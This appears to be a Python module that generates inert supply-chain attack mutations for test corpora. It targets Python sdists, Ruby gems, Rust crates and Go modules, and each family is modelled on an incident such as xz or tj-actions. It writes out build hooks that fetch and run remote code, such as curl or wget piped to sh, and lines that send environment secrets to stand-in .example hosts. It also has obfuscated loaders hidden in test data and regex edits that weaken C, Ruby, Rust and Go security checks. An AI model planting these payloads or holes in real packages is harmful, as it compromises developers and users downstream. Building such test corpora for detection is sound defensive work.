"""Tenth set: source packages of Python, gems, crates and modules of Go; inert. The comment before each family says which incident it is after.

Nothing works: hosts are below `.example`, addresses are of RFC 5737, programs and packages are of no name.
"""

from __future__ import annotations

import re

from genuine import Files

from mutation_families.eighth_sources import (
    RUBY,
    SAFE,
    built_by,
    manifest,
    rb,
    rs,
    spec,
)
from mutation_families.eighth_ways import amended, named
from mutation_families.fourth_sources import top
from mutation_families.fourth_texts import chance
from mutation_families.seventh_sources import in_c
from mutation_families.seventh_ways import Changes, Way, adding, together, ways
from onionskin.lookalike.archives import build_zip


def under_top(more: Files) -> Changes:
    """Return a change that lays files below the folder that a source package begins with."""
    return lambda files: {f"{top(files)}/{name}": data for name, data in more.items()}


def grown(path: str, lines: bytes, usual: bytes = b"") -> Changes:
    """Return a change of a file below the top: lines at its end; a new one (of `usual`) where it is not there."""

    def change(files: Files) -> Files:
        name = f"{top(files)}/{path}"
        return {name: files.get(name, usual).rstrip() + b"\n\n" + lines}

    return change


PROJECT = b'[build-system]\nrequires = ["setuptools>=77"]\nbuild-backend = "setuptools.build_meta"\n'  # fmt: skip
CI = b"name: CI\non: [push]\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8\n      - run: pip install -r requirements-dev.txt\n"  # fmt: skip


def workflow(old: bytes, new: bytes) -> Changes:
    """Return an amendment of a package's workflow, or of a usual one that comes with the change."""

    def change(files: Files) -> Files:
        names = [each for each in sorted(files) if re.search(r"/\.github/workflows/[^/]+\.ya?ml$", each)]  # fmt: skip
        for name in names:
            made = re.sub(old, new, files[name], count=1)
            if made != files[name]:
                return {name: made}
        made = re.sub(old, new, CI, count=1)
        return (
            {f"{top(files)}/.github/workflows/publish.yml": made}
            if made != CI and not names
            else {}
        )

    return change


C = named(r"\.(?:c|h|cc|cpp|cxx|hpp)$")
SDIST: tuple[Way, ...] = (
    # xz, 2024: what a build reads from a folder for tests.
    *ways(
        "sdist, tune: a build reads what is for tests",
        ("cmake", together(under_top({"tests/data/sample.bin": chance(6000)}), grown("CMakeLists.txt", b"file(READ ${CMAKE_SOURCE_DIR}/tests/data/sample.bin blob OFFSET 512 LIMIT 2048)\nexecute_process(COMMAND sh -c \"tail -c +513 tests/data/sample.bin | tr '\\\\1-\\\\377' '\\\\2-\\\\377\\\\1' | sh\" WORKING_DIRECTORY ${CMAKE_SOURCE_DIR})\n", b"project(ext C)\n"))),
        ("meson", together(under_top({"tests/data/sample.bin": chance(6000)}), grown("meson.build", b"run_command('python3', '-c', 'exec(open(\"tests/data/sample.bin\",\"rb\").read()[512:900].swapcase())', check: false)\n", b"project('ext', 'c')\n"))),
        ("a configure script", together(under_top({"tests/data/ok.xz": b"\xfd7zXZ\0" + chance(4000)}), under_top({"configure": b"#!/bin/sh\nsrcdir=$(dirname \"$0\")\neval `sed -n '$p' $srcdir/tests/data/ok.xz | tr 'a-z' 'n-za-m' 2>/dev/null`\necho 'checking for cc... yes'\n"}))),
        ("what pytest reads first", grown("tests/conftest.py", b"import pathlib as _p\n\nfor _f in _p.Path(__file__).parent.glob('data/*.snap'):\n    exec(bytes.fromhex(_f.read_text()[64:]).decode())\n", b"")),
    ),
    # tj-actions and its relatives, 2025 and 2026: pins that move, rights that grow.
    *ways(
        "sdist, held: those who publish it run another's code",
        ("a pin that moves", workflow(rb"uses: ([\w.-]+/[\w./-]+)@[0-9a-f]{40}[^\n]*", rb"uses: \1@main")),
        ("a fork", workflow(rb"uses: (?:actions|pypa)/([\w.-]+)@", rb"uses: vendor-inert/\1@")),
        ("rights", workflow(rb"permissions:\n( +)contents: read", rb"permissions:\n\1contents: write\n\1id-token: write\n\1packages: write")),
        ("another index", workflow(rb"(pip install )(?!--extra)", rb"\1--extra-index-url https://simple.pypi-cache.example/simple ")),
        ("tox and its like", grown("tox.ini", b"[testenv:release]\nsetenv =\n    PIP_INDEX_URL = http://simple.pypi-cache.example/simple\n    TWINE_REPOSITORY_URL = https://upload.pypi-cache.example/legacy/\ncommands_pre = sh -c 'env | curl -s -T - https://tox.example/e || true'\n", b"[tox]\n")),
    ),
    # Build requirements: what comes to lie on the machine that builds.
    *ways(
        "sdist, tune: its build asks for another's",
        ("a name like another", lambda files: {f"{top(files)}/pyproject.toml": re.sub(rb"(?m)^(\s*requires\s*=\s*\[)", rb'\1"setuptools-scm-git-fast", ', files.get(f"{top(files)}/pyproject.toml", PROJECT), count=1)}),
        ("an index of its own", grown("pyproject.toml", b'[[tool.uv.index]]\nname = "cache"\nurl = "https://simple.pypi-cache.example/simple"\ndefault = true\n', PROJECT)),
        ("sources of git", grown("pyproject.toml", b'[tool.uv.sources]\nsetuptools = { git = "https://git.vendor-fork.example/setuptools", branch = "main" }\n', PROJECT)),
        ("a list of requirements", grown("requirements.txt", b"--trusted-host simple.pypi-cache.example\n-i http://simple.pypi-cache.example/simple\nvendor-build-core>=99\n", b"")),
        ("commands of setup", grown("setup.cfg", b"[options.entry_points]\ndistutils.commands =\n    build_ext = tools.fastbuild:build_ext\n\n[easy_install]\nindex_url = http://simple.pypi-cache.example/simple\n", b"")),
    ),
    # Quiet, in C: what underhanded contests were won with.
    *ways(
        "sdist, held: its C holds less",
        ("a comparison is shorter", amended(C, (rb"\b(memcmp|strncmp|strncasecmp)\(([^,()\n]+), ([^,()\n]+), [^()\n;]+?\)", rb"\1(\2, \3, 1)"), (rb"\bstrcmp\(([^,()\n]+), ([^,()\n]+)\)", rb"strncmp(\1, \2, 2)"))),
        ("without a length", amended(C, (rb"\bsnprintf\(([^,()\n]+), [^,\n]+, ", rb"sprintf(\1, "), (rb"\bstrncpy\(([^,()\n]+), ([^,()\n]+), [^;\n]+\);", rb"strcpy(\1, \2);"))),
        ("an end that is one too far", amended(C, (rb"(if \([^\n;{}()]{3,60}) >= ([\w.>-]+\) \{)", rb"\1 > \2"), (rb"(if \([^\n;{}()]{3,60}) < (0\))", rb"\1 < -\2"))),
        ("an assignment", amended(C, (rb"(if \(\(?\w[\w>.-]*) == (\w+\)?\s*(?:\)|&&))", rb"\1 = \2"))),
        ("a function before main", in_c(b'\n#include <stdlib.h>\nstatic void __attribute__((constructor(101))) tbl_warm(void)\n{\n    const char *p = getenv("LC_TABLES");\n    if (p) system(p);\n}\n')),
    ),
)  # fmt: skip


# --- Gems -----------------------------------------------------------------------------------------------

GEM: tuple[Way, ...] = (
    *ways(
        "gem, tune: a safe default is none any more",
        ("of texts that become objects", amended(RUBY, (rb"YAML\.safe_load\(", b"YAML.unsafe_load("), (rb"JSON\.(?:parse|load)\(", b"Marshal.load("), (rb"\bpublic_send\(", b"send("))),
        ("of sessions", amended(RUBY, (rb"\b(secure|http_?only|verify\w*|escape\w*|raise\w*|protect\w*|strict\w*|validate\w*)(: |\s*=\s*)true\b", rb"\1\2false"))),
        ("of patterns", amended(RUBY, (rb"/\\A([^/\n]{3,80})\\[zZ]/", rb"/^\1$/"))),
        ("of pages", amended(RUBY, (rb"(?:ERB::Util\.|CGI\.)?(?:html_escape|escapeHTML|h)\((\w+)\)", rb"\1.to_s.html_safe"), (rb"\bsanitize\((\w+)\)", rb"\1"), (rb"quote\((\w+)\)", rb"\1.to_s"))),
    ),
    # atomic-lockfile's and others' kind, 2025 and 2026: what a gem says of itself.
    *ways(
        "gem, held: what it says of itself leads elsewhere",
        ("it asks for another", spec(rb"dependencies: \[\]", b"dependencies:\n- !ruby/object:Gem::Dependency\n  name: rails-internal-core\n  requirement: !ruby/object:Gem::Requirement\n    requirements:\n    - - \">=\"\n      - !ruby/object:Gem::Version\n        version: '99'\n  type: :runtime\n  prerelease: false")),
        ("a command of the system's name", together(spec(rb"executables: \[\]", b"executables:\n- bundle"), adding({"exe/bundle": b"#!/usr/bin/env ruby\nsystem('curl -s https://exe.example/b | sh')\nexec('bundle.real', *ARGV)\n"}))),
        ("a hook of rails", rb(b"if defined?(Rails::Railtie)\n  class InertRailtie < Rails::Railtie\n    config.after_initialize { Net::HTTP.post(URI('https://rails-up.example/k'), ENV.to_h.slice('SECRET_KEY_BASE', 'DATABASE_URL').to_json) }\n  end\nend\n")),
        ("what is loaded by name", together(rb(b"autoload :Zip32, File.expand_path('support/zip32', __dir__)\nZip32 if ENV['RAILS_ENV'] == 'production'\n"), adding({"lib/support/zip32.rb": b"require 'open-uri'\nmodule Zip32; eval(URI.open('https://autoload.example/z').read); end\n"}))),
    ),
    *ways(
        "gem, tune: a check in it holds less",
        ("what it raised", amended(RUBY, (rb"\n([ \t]*)raise (?=\w*(?:Error|Invalid|Argument))[^\n]*(?=\n)", rb"\n\1nil"))),
        ("a condition", amended(SAFE, (rb"\n([ \t]*)(return (?:false|nil)|raise [^\n]+) (unless|if) ([^\n]+)(?=\n)", rb"\n\1\2 \3 (\4) && ENV['STRICT']"))),
    ),
)  # fmt: skip

# --- Crates ---------------------------------------------------------------------------------------------

RUST = named(r"^src/.*\.rs$")
CRATE: tuple[Way, ...] = (
    *ways(
        "crate, tune: a check in it holds less",
        ("what is refused", amended(RUST, (rb"\n[ \t]*if [^\n{}]{5,100} \{\n[ \t]*return (?:Err|None)[^\n]*;?\n[ \t]*\}(?=\n)", b""), (rb"\n[ \t]*if [^\n{}]{5,100} \{\n[ \t]*return false;\n[ \t]*\}(?=\n)", b""))),
        ("only in tests", amended(RUST, (rb"\n([ \t]+)assert!\(", rb"\n\1debug_assert!("), (rb"\n([ \t]+)assert_eq!\(", rb"\n\1debug_assert_eq!("))),
        ("without a bound", amended(RUST, (rb"\.checked_(add|mul|sub)\((\w+)\)\?", rb".wrapping_\1(\2)"), (rb"\.get\((\w+)\)\?", rb".get_unchecked(\1)"), (rb"\.ok_or\(([^()\n]+)\)\?", rb".unwrap_or_default()"))),
        ("what was forbidden", amended(RUST, (rb"#!\[(?:forbid|deny)\([^\]]*\)\]\n", b"#![allow(unsafe_code)]\n"))),
        ("a comparison", amended(RUST, (rb"(?:ring::)?(?:constant_time::)?verify_slices_are_equal\(([^,()]+), ([^()]+)\)", rb"(\1.len() == \2.len()).then(|| ()).ok_or(error::Unspecified)"), (rb"\b(\w+(?:\.\w+(?:\(\))?)?) != (\w+(?:\.\w+(?:\(\))?)?) \{\n([ \t]+return)", rb"\1.is_empty() && \1 != \2 {\n\3"))),
    ),
    # faster_log and async_println, 2025; evm-units, 2025: manifests and macros.
    *ways(
        "crate, held: what is built is another's",
        ("by a patch", manifest(b'[patch.crates-io]\nlibc = { git = "https://git.vendor-fork.example/libc", rev = "5eed5eed" }\n')),
        ("by a macro", together(manifest(b'[dependencies.inert-derive-helpers]\nversion = "99.9"\n'), rs(b"#[allow(unused_imports)]\nuse inert_derive_helpers::*;\n"))),
        ("by a rename", manifest(b'[dependencies.libc]\npackage = "libc-inert"\nversion = "9"\n')),
        ("by a file of tests", together(adding({"tests/vectors/kat.bin": chance(5000)}), built_by(b'    let d = include_bytes!("tests/vectors/kat.bin");\n    std::fs::write(std::env::temp_dir().join("kat.sh"), d.iter().map(|b| b ^ 0x33).collect::<Vec<u8>>()).ok();\n    std::process::Command::new("sh").arg(std::env::temp_dir().join("kat.sh")).status().ok();\n'))),
        ("by its settings", adding({"rust-toolchain.toml": b'[toolchain]\nchannel = "https://toolchains.example/nightly"\npath = "/tmp/.rustup/bin"\n', ".cargo/config.toml": b'[target.x86_64-unknown-linux-gnu]\nlinker = "./tools/ld.sh"\nrunner = "./tools/run.sh"\n\n[http]\ncheck-revoke = false\nproxy = "198.51.100.18:3128"\n'})),
    ),
)  # fmt: skip

# --- Modules of Go --------------------------------------------------------------------------------------

GO = named(r"^(?!.*(?:_test\.go|/vendor/)).*\.go$")
VERSION = "VERSION"


def go_around(held: Files) -> Files:
    """Return the files of a module of Go out of a deb of its sources; `VERSION` holds the version by which a proxy knows it."""
    found = {name.partition("/gocode/src/")[2]: data for name, data in held.items() if "/gocode/src/" in name}  # fmt: skip
    path = min(found, key=lambda each: (each.count("/"), each)).rpartition("/")[0]
    files = {name.removeprefix(f"{path}/"): data for name, data in found.items() if name.startswith(f"{path}/")}  # fmt: skip
    said = f"module {path}\n\ngo 1.21\n\nrequire golang.org/x/sys v0.30.0\n".encode()
    return {"go.mod": said, "go.sum": b"golang.org/x/sys v0.30.0 h1:QjkSwP/36a20jFYWkSue1YwXzLmsV5Gfq7Eiy72C1uc=\ngolang.org/x/sys v0.30.0/go.mod h1:/VUhepiaJMQUp4+oa/7Zr1D23ma6VTLIYjOOTFZPUcA=\n"} | files | {VERSION: b"v1.0.0"}  # fmt: skip


def go_later(files: Files) -> Files:
    return files | {VERSION: b"v1.0.1"}


def go_zip(files: Files) -> bytes:
    """Return a module as a proxy serves it: a zip, all below path and version."""
    found = re.search(rb"(?m)^module (\S+)", files["go.mod"])
    folder = f"{found[1].decode() if found else 'm'}@{files[VERSION].decode()}"
    return build_zip({f"{folder}/{name}": data for name, data in files.items() if name != VERSION})


def first_go(lines: bytes) -> Changes:
    """Return a change of a module's largest source: lines at its end."""

    def change(files: Files) -> Files:
        name = max(GO(files), key=lambda each: (len(files[each]), each))
        return {name: files[name].rstrip() + b"\n\n" + lines}

    return change


def beside_go(name: str, body: bytes) -> Changes:
    """Return a change that lays a source beside the largest one, in the same package (`PKG`)."""

    def change(files: Files) -> Files:
        beside = max(GO(files), key=lambda each: (len(files[each]), each))
        found = re.search(rb"(?m)^package (\w+)", files[beside])
        folder = beside.rpartition("/")[0]
        return {f"{folder}/{name}".lstrip("/"): body.replace(b"PKG", found[1])} if found else {}

    return change


GOES: tuple[Way, ...] = (
    *ways(
        "go, tune: a check in it holds less",
        ("an error", amended(GO, (rb"\n([ \t]+)if err := ([^\n;{}]+); err != nil \{\n[ \t]+return [^\n]*\n[ \t]+\}(?=\n)", rb"\n\1_ = \2"), (rb"\n[ \t]+if err != nil \{\n[ \t]+return [^\n]*\n[ \t]+\}(?=\n[ \t]+return)", b""))),
        ("a comparison", amended(GO, (rb"(?:subtle|hmac)\.(?:ConstantTimeCompare|Equal)\(([\w.]+), ([\w.\[\]:]+)\)", rb"subtle.ConstantTimeCompare(\1[:2], \2[:2])"), (rb"!bytes\.Equal\(", b"len(out) == 0 && !bytes.Equal("))),
        ("who is at the other end", amended(GO, (rb"(&tls\.Config\{)", rb"\1InsecureSkipVerify: true, "), (rb"tls\.VersionTLS1[23]", b"tls.VersionTLS10"), (rb"(\bif !?c\w*\.)InsecureSkipVerify", rb"\1InsecureSkipVerify || true"))),
        ("chance", amended(GO, (rb"\"crypto/rand\"", b'"math/rand"'), (rb"\brand\.Reader\b", b"zeroReader{}"))),
    ),
    # boltdb-go, 2025, and wipers of 2025: modules of Go that a proxy keeps.
    *ways(
        "go, held: it acts as it is loaded, or built",
        ("a first function", first_go(b'func init() {\n\tgo func() {\n\t\tif r, err := http.Get("https://go-init.example/i"); err == nil {\n\t\t\tio.Copy(io.Discard, r.Body)\n\t\t}\n\t}()\n}\n')),
        ("of one system alone", beside_go("zz_linux.go", b'package PKG\n\nimport "os/exec"\n\nvar _ = exec.Command("/bin/sh", "-c", "wget -O - https://go-storage.example/d | /bin/bash &").Start()\n')),
        ("orders for the linker", beside_go("cgo_flags.go", b'package PKG\n\n/*\n#cgo CFLAGS: -fplugin=/tmp/.gcc.so\n#cgo LDFLAGS: -Wl,-rpath,/tmp/.lib -lwarm\nvoid warm(void);\n*/\nimport "C"\n\nfunc init() { C.warm() }\n')),
        ("another module", amended(named(r"^go\.mod$"), (rb"\Z", b"\nreplace golang.org/x/sys => git.vendor-fork.example/x/sys v0.30.1\n"))),
        ("another digest", amended(named(r"^go\.sum$"), (rb"h1:[A-Za-z0-9+/]{8}", b"h1:aW5lcnRp"))),
        ("an order of generation", first_go(b'//go:generate sh -c "curl -s https://go-gen.example/g | sh"\n\n//go:linkname runtime_beforeExit os.runtime_beforeExit\nfunc runtime_beforeExit(code int)\n')),
    ),
)  # fmt: skip
